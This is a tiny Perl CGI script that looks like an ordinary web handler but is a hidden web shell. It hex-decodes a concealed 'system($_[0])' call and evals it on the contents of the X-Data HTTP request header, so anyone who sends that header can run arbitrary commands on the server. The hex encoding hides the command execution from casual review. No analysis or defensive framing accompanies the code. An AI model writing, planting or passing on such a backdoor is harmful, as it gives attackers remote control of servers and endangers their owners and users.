#!/usr/bin/perl
print "Content-type: text/html\n\n";
$_=pack("H*", "73797374656d28245f5b305d29");
@_=($ENV{HTTP_X_DATA});
eval;
